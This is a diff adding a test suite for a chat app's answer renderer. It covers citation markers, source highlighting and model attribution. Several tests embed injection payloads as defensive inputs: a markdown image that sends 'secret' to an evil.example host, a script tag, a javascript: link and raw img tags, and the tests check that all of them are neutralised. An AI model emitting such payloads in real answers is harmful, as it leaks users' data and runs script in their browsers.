@@ -1,0 +1,144 @@
+import {
+  createMemoryHistory,
+  createRootRoute,
+  createRouter,
+  RouterProvider,
+} from "@tanstack/react-router";
+import { cleanup, render, screen, waitFor } from "@testing-library/react";
+import userEvent from "@testing-library/user-event";
+import fc from "fast-check";
+import { afterEach, expect, test } from "vitest";
+import { citation, makeMessage } from "../mount-chat-for-tests.tsx";
+import { Answer } from "./answer.tsx";
+import { ParsedText } from "./parsed-text.tsx";
+
+afterEach(cleanup);
+
+async function mount(text: string, part = {}): Promise<HTMLElement> {
+  const message = makeMessage({ text, ...part });
+  const root = createRootRoute({
+    component: () => <Answer message={message} onAskAgain={undefined} isNew={false} />,
+  });
+  const history = createMemoryHistory({ initialEntries: ["/"] });
+  const router = createRouter({ routeTree: root, history });
+  await router.load();
+  const { container } = render(<RouterProvider router={router as never} />);
+  await waitFor(() => expect(container.querySelector("p, h3, ul, table, pre")).not.toBeNull());
+  return container;
+}
+
+const awkwardPieces = [
+  "[1]",
+  "![",
+  "](",
+  ")",
+  "<img src=x>",
+  "<a href=//e.example>",
+  "https://e.example",
+  "\n\n",
+  "`",
+  "```\n",
+  "| a | b |\n|---|---|\n",
+  "- ",
+  "1. ",
+  "> ",
+  "**",
+  "[1]: //e.example\n",
+  "&#x3C;",
+];
+const nothingCited = { citations: [] };
+
+test("no picture is loaded, and no link leaves, whatever the text says", async () => {
+  const page = await mount(
+    [
+      "See ![a pixel](https://evil.example/p.png?q=secret) and [this](https://evil.example/x),",
+      "<img src=https://evil.example/y> <script>alert(1)</script> https://evil.example/auto",
+      "[script](javascript:alert(1)) [other](//evil.example/entry/1) [own](/entry/abc-1)",
+    ].join("\n"),
+    nothingCited,
+  );
+  expect(page.querySelectorAll("img, script, iframe, object, svg image, form, input")).toHaveLength(
+    0,
+  );
+  const links = [...page.querySelectorAll("a")].map((link) => link.getAttribute("href"));
+  expect(links).toEqual(["/entry/abc-1"]);
+  expect(page.textContent).toContain("a pixel");
+  expect(page.textContent).toContain("<script>alert(1)</script>");
+});
+
+test("a definition in the text does not take a citation's place", async () => {
+  const page = await mount("So it is [1].\n\n[1]: https://evil.example/x\n\n[^1]: a note");
+  const markers = screen.getAllByRole("link", { name: /^Source 1: / });
+  for (const marker of markers) {
+    expect(marker.getAttribute("href")).toBe("/entry/entry-1?at=12-44");
+  }
+  expect(page.querySelector("[href*=evil]")).toBeNull();
+});
+
+test("only numbers that are cited become markers; code keeps its brackets", async () => {
+  const page = await mount("Two [1] and [7], `list[1]`.");
+  expect(screen.getAllByRole("link", { name: /^Source/ })).toHaveLength(1);
+  expect(page.textContent).toContain("and [7]");
+  expect(page.querySelector("code")!.textContent).toBe("list[1]");
+});
+
+test("of an answer that was stopped, markers without a source are left out", async () => {
+  const page = await mount("Half of it [1] and [2].", { outcome: "stopped" });
+  expect(page.querySelector("p")!.textContent).toBe("Half of it1 and.");
+});
+
+test("the person's own note leads to the note, and is set apart", async () => {
+  await mount("You said so [1].", {
+    citations: [{ ...citation, field: "why", start: null, end: null, quote: "Resistance." }],
+  });
+  expect(screen.getByRole("link", { name: /^Source 1/ }).getAttribute("href")).toBe(
+    "/entry/entry-1#why",
+  );
+  screen.getByText("Your note");
+});
+
+test("a quote stands among the sources, unless the answer is that quote", async () => {
+  const { quote } = citation;
+  const own = await mount("In other words [1].");
+  expect(own.querySelector("blockquote")!.textContent).toBe(`“${quote}”`);
+  cleanup();
+  const quoting = await mount(`“${quote.replace(".", "\\.")}” [1]`);
+  expect(quoting.querySelector("blockquote")).toBeNull();
+});
+
+test("a marker lights up its source while it is looked at", async () => {
+  const user = userEvent.setup();
+  const page = await mount("So it is [1].");
+  const lit = () => page.querySelectorAll("[data-pointed-at]").length;
+  expect(lit()).toBe(0);
+  await user.hover(screen.getByRole("link", { name: /^Source 1/ }));
+  expect(lit()).toBe(1);
+  await user.unhover(screen.getByRole("link", { name: /^Source 1/ }));
+  expect(lit()).toBe(0);
+  await user.tab();
+  expect(lit()).toBe(1);
+});
+
+test("who wrote it is said: a model by name, or the saved sentences themselves", async () => {
+  const byModel = await mount("Text.", { model: "anthropic: claude-haiku-4-5", ...nothingCited });
+  expect(byModel.textContent).toContain("Written by anthropic: claude-haiku-4-5");
+  const quoted = await mount("Text.", nothingCited);
+  expect(quoted.textContent).toContain("Sentences from what you saved");
+});
+
+test("any text is drawn without an element that loads or runs something", () => {
+  const piece = fc.constantFrom(...awkwardPieces);
+  fc.assert(
+    fc.property(
+      fc.array(fc.oneof(piece, fc.string({ maxLength: 8 })), { maxLength: 25 }),
+      (pieces) => {
+        const { container, unmount } = render(<ParsedText text={pieces.join("")} />);
+        expect(
+          container.querySelectorAll("img, a, script, iframe, style, link, input"),
+        ).toHaveLength(0);
+        unmount();
+      },
+    ),
+    { numRuns: 150 },
+  );
+});
